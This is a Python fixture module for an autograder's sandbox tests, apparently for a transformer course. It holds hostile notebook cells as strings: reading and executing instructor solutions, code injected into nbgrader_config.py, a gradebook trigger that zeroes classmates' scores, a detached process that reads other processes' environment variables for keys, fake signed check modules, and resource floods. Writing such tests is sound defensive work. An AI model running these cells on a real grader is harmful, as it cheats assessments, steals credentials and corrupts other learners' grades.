"""Attacks on the grader, each an answer cell (or an edit) as a determined learner
types it.

Graded in the same class run as tests/grading/hostile.py's learners, in the sandbox,
with honest learners after them (the class is split between two jobs). What each
must earn is in hostile.LEARNERS; what must stay untouched is asserted in
tests/grading/test_sandbox_attacks.py. Every attack falls back to a wrong answer, so
points it earns are points the sandbox failed to stop.
"""

# Execute the instructor's answers, found in the course folder (nbgrader runs the
# notebook in <course>/autograded/<student>/<assignment>) or next to the packages.
READS_SOLUTIONS = """
import json, pathlib, tformer_grading
found = []
for course in (pathlib.Path.cwd().parents[2],
               pathlib.Path(tformer_grading.__file__).resolve().parents[1]):
    found += sorted(course.glob("solutions/*/exercise.ipynb"))
print("solutions found:", len(found))
for path in found:
    for cell in json.loads(path.read_text())["cells"]:
        print("".join(cell["source"]))
        source = "".join(cell["source"])
        if "ch01_shapes" in str(path) and "### BEGIN SOLUTION" in source:
            exec(source)
if not found:
    def split_heads(x, n_heads):
        b, s, d = x.shape
        return x.view(b, s, n_heads, d // n_heads)
"""

# Rewrite the checks on disk, append to nbgrader_config.py, zero the classmates in the
# gradebook, and overwrite another learner's submission.
REWRITES_COURSE = """
import pathlib, sqlite3, tformer_grading
course = pathlib.Path.cwd().parents[2]
for path, text in [
    (pathlib.Path(tformer_grading.__file__).parent / "checks" / "ch01"
     / "split_heads.py",
     "def check_split_heads(fn): print('ok')\\n"),
    (course / "nbgrader_config.py", "\\nimport os; os.system('touch /tmp/pwned')\\n"),
    (course / "submitted" / "solution" / "ch01_shapes" / "exercise.ipynb", "{}"),
]:
    try:
        with open(path, "a") as f:
            f.write(text)
        print("wrote", path)
    except OSError as e:
        print("could not write", path, type(e).__name__)
try:
    db = sqlite3.connect(course / "gradebook.db")
    db.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN "
               "UPDATE grade SET auto_score = 0; END")
    db.commit()
    print("trigger planted")
except sqlite3.Error as e:
    print("no gradebook:", e)

def split_heads(x, n_heads):
    b, s, d = x.shape
    return x.view(b, s, n_heads, d // n_heads)
"""

# A process that outlives the kernel, waits for the next learner's kernel and its key,
# and rewrites the grades once the command is done.
OUTLIVES_KERNEL = '''
import subprocess, sys
spy = """
import glob, os, time
for _ in range(600):
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            text = open(path, "rb").read()
        except OSError:
            continue
        if b"TFORMER" in text:
            open("/tmp/tformer-spy-found-a-key", "w").write(path)
    for grades in glob.glob("/tmp/*/grades/grades.csv"):
        open(grades, "a").write("spy,999\\\\n")
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", spy, "tformer-spy-marker"],
                 start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
print("spy started")

def merge_heads(x):
    b, h, s, dh = x.shape
    return x.reshape(b, s, h * dh)
'''

# Find other kernels: their connection files, their processes, and their ports (the
# tests keep a listener on NEIGHBOUR_PORT, as another learner's kernel would be).
OTHER_KERNELS = """
import glob, json, os, socket
files = glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
files += glob.glob("/root/.local/share/jupyter/runtime/*.json")
files += glob.glob("/tmp/**/kernel*.json", recursive=True)
from ipykernel import get_connection_file
own_file = os.path.realpath(get_connection_file())
files = [f for f in files if os.path.realpath(f) != own_file]
print("connection files seen:", len(files))
reached = []
for port in [45454, *range(8888, 8900)]:  # a neighbour's kernel; Jupyter servers
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
        reached.append(port)
    except OSError:
        pass
print("ports reached:", len(reached))
mine = {os.getpid(), os.getppid()}
others = [p for p in glob.glob("/proc/[0-9]*/cmdline")
          if int(p.split("/")[2]) not in mine and b"ipykernel" in open(p, "rb").read()]
print("other kernels seen:", len(others))

def split_heads(x, n_heads):
    b, s, d = x.shape
    return x.view(b, s, n_heads, d // n_heads)
"""

NEIGHBOUR_PORT = 45454

# Above the locked setup cell: a look-alike check module in sys.modules and on the
# package, whose checks print success lines signed by the course's own signer.
LOOKALIKE_FIRST = """
import sys, types
import tformer_grading.checks
from tformer_grading.guard import receipts

fake = types.ModuleType("tformer_grading.checks.ch01")
def _ok(*args, **kwargs):
    print(receipts.sign("✓ check: matches the reference on 5 cases"))
for name in ["check_split_heads", "check_merge_heads", "check_multi_head_attention",
             "check_multi_head_attention_behaviour", "check_by_hand",
             "check_mha_by_hand", "check_written_by_hand"]:
    setattr(fake, name, _ok)
fake.__getattr__ = lambda name: _ok
sys.modules["tformer_grading.checks.ch01"] = fake
tformer_grading.checks.ch01 = fake
"""

# Above the locked setup cell: an import hook that would hand out a look-alike.
IMPORT_HOOK_FIRST = """
import importlib.abc, importlib.machinery, sys, types

class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("tformer_grading.checks"):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__getattr__ = lambda attr: (lambda *a, **k: print("✓ fine"))
        return module
    def exec_module(self, module):
        pass

sys.meta_path.insert(0, Fake())
"""

# 20 GB asked for: refused inside the sandbox's memory limit; the answers are right.
MEMORY_FLOOD = """
try:
    hog = torch.ones(20 * 2**30, dtype=torch.uint8)
    print("allocated 20 GB")
except RuntimeError:
    print("allocation refused")

def merge_heads(x):
    b, h, s, dh = x.shape
    return x.transpose(1, 2).reshape(b, s, h * dh)
"""

# A 10 MB error message (20 MB with its traceback, inside the grader's 32 MB per
# message), and one display updated 2000 times with 10 kB each.
ERROR_AND_UPDATE_FLOOD = """
from IPython.display import display
handle = display("start", display_id=True)
for i in range(2000):
    handle.update("y" * 10_000)
raise ValueError("z" * 10_000_000)
"""

# Every cell sleeps: the notebook as a whole runs past its time limit.
SLOW = "import time\ntime.sleep(12)\n"

# One 40 MB message, past the grader's 32 MB per message: it used to receive such a
# message whole (one of 600 MB cost it 2 GB of its own memory).
BIG_MESSAGE = """
print("x" * 40_000_000)
"""

# 700 widget (comm) messages of 1 MB: the grader used to keep every widget state
# (5.1 GB of its own memory); the answer after them is right.
COMM_FLOOD = """
import comm
widget = comm.create_comm(target_name="jupyter.widget", data={"state": {}})
for i in range(700):
    widget.send({"method": "update", "state": {f"v{i}": "x" * 1_000_000}})

def merge_heads(x):
    b, h, s, dh = x.shape
    return x.transpose(1, 2).reshape(b, s, h * dh)
"""

# Ten displays with 3 MB of metadata each, then right answers: the output cap used to
# count only the data ("a plot"), and kept all 30 MB.
METADATA_FLOOD = """
from IPython.display import display
for i in range(10):
    display({"text/plain": "a plot"}, metadata={"note": "m" * 3_000_000}, raw=True)

def split_heads(x, n_heads):
    b, s, d = x.shape
    return x.view(b, s, n_heads, d // n_heads).transpose(1, 2)
"""

# A right answer, then an exception whose class name is 5 MB long (its name and every
# traceback line that names it went uncounted).
NAME_FLOOD = """
def merge_heads(x):
    b, h, s, dh = x.shape
    return x.transpose(1, 2).reshape(b, s, h * dh)

raise type("E" * 5_000_000, (Exception,), {})("boom")
"""
